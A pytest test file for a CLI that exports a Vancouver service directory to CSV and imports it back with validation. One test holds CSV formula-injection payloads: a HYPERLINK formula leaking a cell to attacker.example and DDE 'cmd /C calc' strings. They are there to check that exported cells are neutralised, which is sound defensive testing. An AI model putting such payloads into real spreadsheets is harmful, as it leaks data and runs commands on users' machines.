"""Spreadsheet round trip of the service directory: export, validated atomic import."""

from __future__ import annotations

import csv
import io
import shutil
import time
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from bot.cli import main
from bot.locator import Locator
from bot.staff.spreadsheet import COLUMNS, read_services
from tests.helpers.locator import TODAY, fixture_root

SERVICES = Path("services") / "vancouver.yaml"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A private copy of the bundled resources with the frozen service list."""
    copy = tmp_path / "resources"
    shutil.copytree(fixture_root(), copy)
    return copy


def _export(root: Path, target: Path, *extra: str) -> bytes:
    assert main(["services", "export", "--csv", str(target), "--resources", str(root), *extra]) == 0
    return target.read_bytes()


def _import(root: Path, source: Path) -> int:
    return main(
        ["services", "import", str(source), "--region", "vancouver", "--resources", str(root)]
    )


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _write_rows(
    path: Path, rows: list[dict[str, str]], delimiter: str = ",", encoding: str = "utf-8-sig"
) -> Path:
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, COLUMNS, delimiter=delimiter, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(out.getvalue().encode(encoding))
    return path


def test_export_is_excel_friendly(root: Path, tmp_path: Path) -> None:
    """The CSV starts with a UTF-8 BOM, ends lines with CRLF and has one row per service."""
    data = _export(root, tmp_path / "out.csv", "--region", "vancouver")
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    rows = _rows(data)
    assert len(rows) == len(read_services(root / SERVICES, root))
    insite = next(r for r in rows if r["id"] == "insite")
    assert insite["categories"] == "consumption_site | drug_checking | supplies"
    assert insite["lat"] == "49.28111"


def test_round_trip_is_byte_identical_and_lossless(root: Path, tmp_path: Path) -> None:
    """Export, import, export gives the same bytes, the same records, and keeps the header."""
    header = (root / SERVICES).read_text().split("region:")[0]
    before = read_services(root / SERVICES, root)
    first = _export(root, tmp_path / "a.csv")
    assert _import(root, tmp_path / "a.csv") == 0
    second = _export(root, tmp_path / "b.csv")
    assert first == second
    assert read_services(root / SERVICES, root) == before
    assert (root / SERVICES).read_text().startswith(header)
    Locator.load(root, today=TODAY)  # the bot still loads it


def test_written_yaml_stays_readable(root: Path, tmp_path: Path) -> None:
    """The imported file is block style, one entry per service, fields in the usual order."""
    _export(root, tmp_path / "a.csv")
    _import(root, tmp_path / "a.csv")
    text = (root / SERVICES).read_text()
    block = text[text.index("  - id: insite") :].split("\n\n")[0].splitlines()
    keys = [line.split(":")[0].strip() for line in block if not line.startswith("      -")]
    assert keys == [
        "- id",
        "name",
        "categories",
        "address",
        "city",
        "province",
        "location",
        "eligibility",
        "source",
        "verified",
    ]


def test_excel_semicolons_and_windows_encoding_are_read(root: Path, tmp_path: Path) -> None:
    """A ';'-separated Windows-1252 file with a comma decimal imports like the original."""
    rows = _rows(_export(root, tmp_path / "a.csv"))
    rows[0]["name"] = "Insite é"
    rows[0]["lat"] = rows[0]["lat"].replace(".", ",")
    _write_rows(tmp_path / "excel.csv", rows, delimiter=";", encoding="cp1252")
    assert _import(root, tmp_path / "excel.csv") == 0
    insite = read_services(root / SERVICES, root)[0]
    assert insite.name == "Insite é"
    assert insite.location is not None and insite.location.lat == 49.28111


def test_edits_in_the_spreadsheet_reach_the_file(root: Path, tmp_path: Path) -> None:
    """Changing hours and adding a language in the sheet changes exactly those fields."""
    rows = _rows(_export(root, tmp_path / "a.csv"))
    rows[0]["hours"] = "Mo-Fr 09:00-17:00; Sa 10:00-14:00"
    rows[0]["languages"] = "en | fr"
    _write_rows(tmp_path / "edited.csv", rows)
    assert _import(root, tmp_path / "edited.csv") == 0
    insite = read_services(root / SERVICES, root)[0]
    assert insite.hours == "Mo-Fr 09:00-17:00; Sa 10:00-14:00"
    assert insite.languages == ["en", "fr"]


def test_bad_rows_are_reported_by_row_and_column_and_nothing_is_written(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every bad cell is named by row and column, and the services file is left untouched."""
    rows = _rows(_export(root, tmp_path / "a.csv"))
    rows[0]["hours"] = "whenever"  # row 2
    rows[1]["verified"] = "27/11/2026"  # row 3
    rows[2]["categories"] = "naloxone | pizza"  # row 4
    rows[3]["id"] = rows[0]["id"]  # row 5
    rows[4]["lat"] = ""  # row 6
    _write_rows(tmp_path / "bad.csv", rows)
    before = (root / SERVICES).read_bytes()
    assert _import(root, tmp_path / "bad.csv") == 1
    err = capsys.readouterr().err
    assert "nothing was written" in err
    assert "row 2, column hours: hours 'whenever' is not valid opening_hours syntax" in err
    assert "row 3, column verified: '27/11/2026' is not a date like 2026-11-27" in err
    assert "row 4, column categories: unknown category 'pizza'" in err
    assert "row 5, column id: duplicate id 'insite' (first on row 2)" in err
    assert "row 6, column lat: required, but the cell is empty" in err
    assert (root / SERVICES).read_bytes() == before
    assert [p.name for p in (root / "services").iterdir()] == ["vancouver.yaml"]


def test_unknown_columns_get_a_suggestion(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A misspelt header is refused with the column it probably meant."""
    data = _export(root, tmp_path / "a.csv").replace(b",hours,", b",hourz,", 1)
    (tmp_path / "typo.csv").write_bytes(data)
    assert _import(root, tmp_path / "typo.csv") == 1
    assert "unknown column 'hourz' (did you mean 'hours'?)" in capsys.readouterr().err


def test_rows_of_other_regions_are_skipped(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A country-wide sheet imports only the rows of the region named on the command line."""
    rows = _rows(_export(root, tmp_path / "a.csv"))
    rows[-1]["region"] = "toronto"
    _write_rows(tmp_path / "all.csv", rows)
    assert _import(root, tmp_path / "all.csv") == 0
    assert "1 row(s) of other regions skipped" in capsys.readouterr().out
    assert len(read_services(root / SERVICES, root)) == len(rows) - 1


def test_unknown_region_is_refused(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Importing into a region without a regions/ file writes nothing."""
    _export(root, tmp_path / "a.csv")
    code = main(
        [
            "services",
            "import",
            str(tmp_path / "a.csv"),
            "--region",
            "atlantis",
            "--resources",
            str(root),
        ]
    )
    assert code == 1
    assert "unknown region 'atlantis'" in capsys.readouterr().err
    assert not (root / "services" / "atlantis.yaml").exists()


FORMULAS = {
    "name": '=HYPERLINK("http://attacker.example/?leak="&B2,"Insite")',
    "address": "-2+3+cmd|' /C calc'!A0",
    "eligibility": "@SUM(1+1)*cmd|' /C calc'!A0",
    "accessibility": "+cmd|' /C calc'!A0",
}


def test_formula_cells_are_neutralised_on_export_and_restored_on_import(
    root: Path, tmp_path: Path
) -> None:
    """=, +, -, @ cells leave with a leading ' and come back exactly; numbers stay numbers."""
    rows = _rows(_export(root, tmp_path / "a.csv"))
    rows[0].update({k: "'" + v for k, v in FORMULAS.items()})  # as our export writes them
    rows[1]["name"] = "''=already quoted"  # escaped form of a value starting with '=
    _write_rows(tmp_path / "evil.csv", rows)
    assert _import(root, tmp_path / "evil.csv") == 0
    stored = read_services(root / SERVICES, root)
    assert stored[0].name == FORMULAS["name"]
    assert stored[0].address == FORMULAS["address"]
    assert stored[1].name == "'=already quoted"

    exported = _export(root, tmp_path / "b.csv")
    for row in _rows(exported):
        for column, cell in row.items():
            if column not in ("lat", "lon"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    again = _rows(exported)
    assert again[0]["name"] == "'" + FORMULAS["name"]
    assert again[1]["name"] == "''=already quoted"
    assert again[0]["lon"].startswith("-123.")  # a negative number is not a formula
    assert _import(root, tmp_path / "b.csv") == 0
    assert read_services(root / SERVICES, root) == stored
    assert _export(root, tmp_path / "c.csv") == exported


def test_a_million_row_file_is_refused_at_once_in_little_memory(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], record_property: Any
) -> None:
    """A million rows are refused before parsing, in a few MB; a 150 MB file is refused
    before it is read. (The time is recorded, not asserted tightly: speed targets belong
    to benchmarks, and a loaded machine running tests in parallel would flake.)"""
    million = tmp_path / "million.csv"
    million.write_bytes(b"id\n" + b"x\n" * 1_000_000)  # small enough to pass the size check
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as handle:
        handle.truncate(150 * 1024 * 1024)  # sparse: costs no disk
    before = (root / SERVICES).read_bytes()
    tracemalloc.start()
    started = time.perf_counter()
    assert _import(root, million) == 1
    assert _import(root, huge) == 1
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1] / 1024 / 1024
    tracemalloc.stop()
    print(
        f"csv: a million rows and a 150 MB file refused in {elapsed * 1000:.0f} ms, "
        f"peak {peak:.1f} MB allocated"
    )
    record_property("million_rows_refused_ms", round(elapsed * 1000))
    record_property("million_rows_peak_mb", round(peak, 1))
    err = capsys.readouterr().err
    assert "1,000,000 rows" in err and "150.0 MB" in err
    assert peak < 20  # the file itself is 2 MB: parsing its rows would take far more
    assert elapsed < 10  # a hang guard only (about 0.3 s on an idle machine)
    assert (root / SERVICES).read_bytes() == before


@pytest.mark.parametrize(
    "content",
    [
        b'id,name\r\nx,"' + b"a" * 200_000 + b'"\r\n',  # a cell over the csv module's limit
        b'id,name\r\nx,"never closed\r\n' + b"y,z\r\n" * 10,
        b",".join(b"c%d" % i for i in range(100_000)) + b"\r\n",  # 100,000 columns
    ],
)
def test_broken_files_get_one_clear_line_not_a_traceback(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes
) -> None:
    """A huge cell, an unclosed quote or a 100,000-column header: exit 1 and a short reason."""
    broken = tmp_path / "broken.csv"
    broken.write_bytes(content)
    assert _import(root, broken) == 1
    err = capsys.readouterr().err
    assert "nothing was written" in err and "Traceback" not in err
    assert len(err) < 5_000


def test_error_output_is_capped(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Thousands of bad rows: the first 50 problems, then how many more."""
    rows = _rows(_export(root, tmp_path / "a.csv"))
    bad = [{**rows[0], "id": f"s{i}", "hours": "whenever"} for i in range(4_000)]
    _write_rows(tmp_path / "bad.csv", bad)
    assert _import(root, tmp_path / "bad.csv") == 1
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 1 + 50 + 1
    assert lines[-1].strip() == "... and 3,950 more"


def test_control_characters_are_refused_and_line_separators_round_trip(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """NUL in a name is refused by row and column; U+2028 is written as valid YAML."""
    rows = _rows(_export(root, tmp_path / "a.csv"))
    rows[0]["name"] = "Serv\x00ice"
    _write_rows(tmp_path / "nul.csv", rows)
    assert _import(root, tmp_path / "nul.csv") == 1
    assert "row 2, column name: contains an invisible control character" in (
        capsys.readouterr().err
    )
    rows[0]["name"] = "Insite\u2028Vancouver"
    _write_rows(tmp_path / "sep.csv", rows)
    assert _import(root, tmp_path / "sep.csv") == 0
    assert read_services(root / SERVICES, root)[0].name == "Insite\u2028Vancouver"
